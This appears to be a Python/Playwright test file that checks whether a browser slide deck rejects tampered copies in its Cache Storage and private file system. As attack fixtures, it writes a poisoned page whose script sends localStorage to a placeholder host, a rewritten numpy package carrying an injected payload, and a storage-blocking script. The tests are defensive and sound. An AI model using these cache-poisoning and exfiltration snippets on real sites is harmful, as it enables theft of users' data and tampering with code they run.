"""What the deck keeps on a device is checked against the build every time it is read.

A visit leaves the deck in Cache Storage (the service worker serves it from
there on the next visit) and Python's snapshot and packages in the origin's
private file system (the worker boots from them). A cell can no longer reach
either (test_storage_doors.py), but any page of the same origin can (another
project on localhost, another page of a shared https host): here the tests
play that page. Whatever it writes, the next visit uses nothing that is not
the build's own, deletes it, takes the build's from the network (or, offline,
does without it) and says so in one line of Spanish.

In a browser profile on disk, like a lecturer's, against the fixture deck built
by deckbuild:

* a page of the deck poisoned in the cache (a page without the policy that
  would send every edit elsewhere, the security review's H1) is never served:
  online the build's page comes instead, offline a short page that says why;
* the cache a new service worker installs into, poisoned before it was
  registered, holds only the build's files once installed;
* the packages' copy rewritten (H2) is refused, online and offline, Python
  runs clean, and the copy is kept again, the build's;
* a boot that fails after using a copy deletes it, so «Reintentar» downloads
  instead of failing the same way (M1);
* a folder where a copy goes, or one copy the storage refuses, stops neither
  copy for good (L2).
"""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import tempfile
import zipfile
from pathlib import Path

import pytest

from deckbuild.browser import SUITE_CHROMIUM_ARGS, find_chromium
from deckbuild.pyodide import make_integrity
from deckpage import BOOT_TIMEOUT_MS, DeckPage
from test_service_worker import CACHED, Server, wait_offline

POISONED = "ENVENENADO"
SNAPSHOT_COPY = "dpdeck-python-snapshot.bin"
PACKAGES_COPY = "dpdeck-python-packages.bin"
KEPT = "() => Reveal.getPlugin('dpdeck').python.stats.snapshotKept === true"
REFUSED_COPY_LINE = "La copia de Python guardada en este dispositivo no era la de esta versión"
REPLACED_LINE = "no coincidía con esta versión de las diapositivas"

# What another page of this origin writes into the deck's cache: a page of its own, with no
# policy, that would send the students' edits to another server; and a worker script of its own.
POISON_CACHE = """async ([build, base]) => {
  const cache = await caches.open('dpdeck-' + build);
  const page = '<!doctype html><title>ENVENENADO</title><h1>ENVENENADO</h1>' +
    '<script>fetch("http://127.0.0.1:9/robado?" + encodeURIComponent(JSON.stringify(localStorage)))</script>';
  await cache.put(base + 'index.html', new Response(page, {headers: {'Content-Type': 'text/html'}}));
  await cache.put(base + 'js/worker.js', new Response('self.postMessage("ENVENENADO")',
    {headers: {'Content-Type': 'text/javascript'}}));
}"""

# The device's copy of the packages, rewritten by another page of the origin: same size,
# every numpy file's bytes but its first changed (a payload a boot would import).
POISON_PACKAGES = """async ([name, description]) => {
  const root = await navigator.storage.getDirectory();
  const handle = await root.getFileHandle(name);
  const bytes = new Uint8Array(await (await handle.getFile()).arrayBuffer());
  let offset = 0;
  for (const wheel of description.wheels) for (const [path, size] of wheel.files) {
    if (path === 'numpy/__init__.py' || path === 'numpy/__init__.pyc') {
      const payload = new TextEncoder().encode("import builtins\\nbuiltins.print = lambda *a, **k: None\\n#");
      bytes.set(payload.subarray(0, Math.min(size, payload.length)), offset);
    }
    offset += size;
  }
  const writable = await handle.createWritable();
  await writable.write(bytes);
  await writable.close();
  return offset;
}"""

# The origin's private files: {name: {kind, size, sha256}}.
PRIVATE_FILES = """async () => {
  const result = {};
  const root = await navigator.storage.getDirectory();
  for await (const [name, handle] of root.entries()) {
    if (handle.kind !== 'file') { result[name] = {kind: handle.kind}; continue; }
    const file = await handle.getFile();
    const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', await file.arrayBuffer()));
    result[name] = {kind: 'file', size: file.size,
                    sha256: Array.from(digest, (b) => b.toString(16).padStart(2, '0')).join('')};
  }
  return result;
}"""


@pytest.fixture
def profile(browser):
    """Open pages in one browser profile on disk, as a lecturer's browser keeps it between visits."""
    folder = Path(tempfile.mkdtemp(prefix="dpdeck-perfil-"))
    contexts = []

    def open_deck(url: str) -> DeckPage:
        if not contexts:
            contexts.append(browser.browser_type.launch_persistent_context(
                str(folder), headless=True, args=SUITE_CHROMIUM_ARGS, executable_path=str(find_chromium()),
                viewport={"width": 1280, "height": 720}))
        context = contexts[0]
        page = context.pages[0] if context.pages else context.new_page()
        page.requests, page.console_errors, page.warnings = [], [], []
        page.on("console", lambda message: page.warnings.append(message.text))
        page.goto(url)
        return DeckPage(page)

    yield open_deck
    for context in contexts:
        context.close()
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def deck_folder(cells_dist, tmp_path):
    folder = tmp_path / "mazo"
    shutil.copytree(cells_dist, folder)
    return folder


def runtime_of(folder: Path) -> dict:
    return json.loads((folder / "runtime.json").read_text(encoding="utf-8"))


def manifest_of(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text(encoding="utf-8"))["files"]


def not_the_builds(cached: dict, folder: Path, base: str) -> dict:
    files = manifest_of(folder)
    return {url: entry["sha256"] for name, entries in cached.items() for url, entry in entries.items()
            if files.get(url.removeprefix(base)) != entry["sha256"]}


def sha256_integrity(hex_digest: str) -> str:
    return make_integrity(hex_digest)


def test_a_page_poisoned_in_the_cache_is_never_served(profile, deck_folder):
    server = Server(deck_folder, plain=False)
    build = runtime_of(deck_folder)["version"]
    try:
        deck = profile(server.url + "?autorun=0")
        deck.wait_until_ready()
        wait_offline(deck, python=False)
        deck.page.evaluate(POISON_CACHE, [build, server.url])

        # Online: the build's page and worker come from the server, the poisoned ones are gone, and the page says so.
        deck.page.reload()
        deck.wait_until_ready()
        assert deck.page.title() != POISONED
        deck.page.wait_for_selector(f".deck-toast:has-text('{REPLACED_LINE}')")
        deck.page.wait_for_function("() => (document.documentElement.dataset.offlineReplaced || '').split(' ').length === 2")
        assert sorted(deck.page.evaluate("() => document.documentElement.dataset.offlineReplaced").split()) == [
            "index.html", "js/worker.js"]
        wait_offline(deck, python=False)
        assert not_the_builds(deck.page.evaluate(CACHED), deck_folder, server.url) == {}

        # Offline: a page that fails its check is never served, and the one served says why.
        deck.page.evaluate(POISON_CACHE, [build, server.url])
    finally:
        server.stop()
    deck.page.context.set_offline(True)
    deck.page.reload()
    deck.page.wait_for_load_state()
    assert deck.page.title() == "Diapositivas no disponibles sin conexión"
    assert POISONED not in deck.page.content()
    assert "no coincidía con la versión publicada" in deck.page.inner_text("body")


def test_a_cache_poisoned_before_the_service_worker_installs_holds_only_the_builds_files(profile, deck_folder):
    server = Server(deck_folder, plain=False)
    build = runtime_of(deck_folder)["version"]
    try:
        # Another page of the origin writes into the cache the deck's next service worker will use.
        deck = profile(server.url + "runtime.json")
        deck.page.evaluate(POISON_CACHE, [build, server.url])
        deck.goto(server.url + "?autorun=0")
        deck.wait_until_ready()
        wait_offline(deck, python=False)
        cached = deck.page.evaluate(CACHED)
    finally:
        server.stop()
    assert list(cached) == [f"dpdeck-{build}"]
    assert server.url + "index.html" in cached[f"dpdeck-{build}"]
    assert not_the_builds(cached, deck_folder, server.url) == {}


@pytest.mark.parametrize("online", [True, False], ids=["en-linea", "sin-conexion"])
def test_a_rewritten_packages_copy_is_refused_and_python_runs_clean(profile, deck_folder, online):
    server = Server(deck_folder, plain=False)
    runtime = runtime_of(deck_folder)
    try:
        deck = profile(server.url + "?autorun=0")
        deck.wait_until_ready()
        deck.page.wait_for_function(KEPT, timeout=BOOT_TIMEOUT_MS)
        if not online:
            wait_offline(deck, python=True)
        assert deck.page.evaluate(POISON_PACKAGES, [PACKAGES_COPY, runtime["packagesCopy"]]) == (
            runtime["packagesCopy"]["size"])
        if not online:
            server.stop()
            deck.page.context.set_offline(True)
        deck.page.reload()
        deck.wait_until_ready()
        copy = deck.python["timings"]["packagesCopy"]
        assert (copy["source"], copy["refused"]) == ("download", "su SHA-256 no es el de runtime.json"), copy
        deck.page.wait_for_selector(f".deck-toast:has-text('{REFUSED_COPY_LINE}')")
        cell = deck.cell("pruebas")
        cell.set_source("import numpy as np\nprint('hola', np.arange(4).sum())")
        assert cell.run_in_page()["status"] == "done"
        assert cell.output_text().strip() == "hola 6"
        # Kept again once Python is quiet: the build's own.
        deck.page.wait_for_function(KEPT, timeout=BOOT_TIMEOUT_MS)
        kept = deck.page.evaluate(PRIVATE_FILES)[PACKAGES_COPY]
        assert sha256_integrity(kept["sha256"]) == runtime["packagesCopy"]["integrity"]
    finally:
        if online:
            server.stop()


# A dpdeck wheel whose package fails to import: a boot that gets it fails in its
# last stage, long after it read the device's copies.
BROKEN_DPDECK = "raise ImportError('dpdeck roto a propósito')\n"


def broken_wheel(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("dpdeck/__init__.py", BROKEN_DPDECK)
        archive.writestr(f"{name.removesuffix('.whl')}.dist-info/RECORD", "")
    return buffer.getvalue()


def test_a_boot_that_fails_after_using_a_copy_forgets_it_and_retry_downloads(new_deck, deck_folder):
    server = Server(deck_folder, plain=False)
    runtime = runtime_of(deck_folder)
    try:
        # No service worker: the test's routes see every request.
        deck = new_deck(server.url + "?autorun=0", service_workers="block")
        deck.wait_until_ready()
        deck.page.wait_for_function(KEPT, timeout=BOOT_TIMEOUT_MS)
        assert set(deck.page.evaluate(PRIVATE_FILES)) == {SNAPSHOT_COPY, PACKAGES_COPY}

        # Python from scratch (no snapshot) with packages from the copy, and a dpdeck that cannot be imported.
        wheel = broken_wheel(runtime["wheel"].rsplit("/", 1)[1])
        broken = {**runtime, "wheelIntegrity": sha256_integrity(hashlib.sha256(wheel).hexdigest())}
        broken.pop("snapshot")
        deck.page.route("**/runtime.json", lambda route: route.fulfill(
            status=200, content_type="application/json", body=json.dumps(broken)))
        deck.page.route("**/wheels/*.whl", lambda route: route.fulfill(status=200, body=wheel))
        deck.page.reload()
        deck.wait_for_python("error")
        detail = deck.page.text_content(".python-status-detail")
        assert "se borró la copia de Python guardada en este dispositivo" in detail, detail
        assert PACKAGES_COPY not in deck.page.evaluate(PRIVATE_FILES)

        # «Reintentar» with the deck as it is: the packages are downloaded, not read from a copy.
        deck.page.unroute("**/runtime.json")
        deck.page.unroute("**/wheels/*.whl")
        deck.click_status_button("retry")
        deck.wait_until_ready()
        assert deck.python["timings"]["packagesCopy"]["source"] == "download"
    finally:
        server.stop()


# Before the deck's first visit, another page of the origin puts a folder where one copy goes,
# and holds the other copy's file open for writing, exclusively: the storage refuses to write it.
OBSTRUCT = """async ([folder, locked]) => {
  const root = await navigator.storage.getDirectory();
  const inside = await root.getDirectoryHandle(folder, {create: true});
  await inside.getFileHandle('dentro.txt', {create: true});
  const file = await root.getFileHandle(locked, {create: true});
  window.__held = await file.createWritable({mode: 'exclusive'});
}"""


def deck_beside(page, url: str) -> DeckPage:
    """The deck in a new tab of `page`'s browser, its console warnings recorded."""
    tab = page.context.new_page()
    tab.requests, tab.console_errors, tab.warnings = [], [], []
    tab.on("console", lambda message: tab.warnings.append(message.text) if message.type == "warning" else None)
    return DeckPage(tab).goto(url)


@pytest.mark.parametrize("folder", [SNAPSHOT_COPY, PACKAGES_COPY])
def test_a_folder_or_a_refused_copy_stops_neither_copy_for_good(new_page, cells_url, cells_dist, folder):
    locked = PACKAGES_COPY if folder == SNAPSHOT_COPY else SNAPSHOT_COPY
    other = new_page(cells_url + "runtime.json")
    other.evaluate(OBSTRUCT, [folder, locked])
    deck = deck_beside(other, cells_url + "?autorun=0")
    deck.wait_until_ready()
    deck.page.wait_for_function("() => Reveal.getPlugin('dpdeck').python.stats.snapshotKept !== null",
                                timeout=BOOT_TIMEOUT_MS)
    # The folder was cleared and its copy kept; the other, refused by the storage, did not stop it.
    files = deck.page.evaluate(PRIVATE_FILES)
    assert files[folder]["kind"] == "file" and files[folder]["size"] > 0, files
    assert deck.stats["snapshotKept"] is False
    assert any("no quedaron guardados" in warning for warning in deck.warnings), deck.warnings

    # Once the storage lets go, the next visit keeps the other one too, and reads the first.
    other.evaluate("() => window.__held.abort()")
    again = deck_beside(other, cells_url + "?autorun=0")
    again.wait_until_ready()
    timings = again.python["timings"]
    used = timings["snapshot"]["source"] if folder == SNAPSHOT_COPY else timings["packagesCopy"]["source"]
    assert used == "kept", timings
    again.page.wait_for_function(KEPT, timeout=BOOT_TIMEOUT_MS)
    files = again.page.evaluate(PRIVATE_FILES)
    assert files[locked]["kind"] == "file" and files[locked]["size"] > 0
    runtime = runtime_of(cells_dist)
    assert sha256_integrity(files[PACKAGES_COPY]["sha256"]) == runtime["packagesCopy"]["integrity"]
    assert sha256_integrity(files[SNAPSHOT_COPY]["sha256"]) == runtime["snapshot"]["memoryIntegrity"]
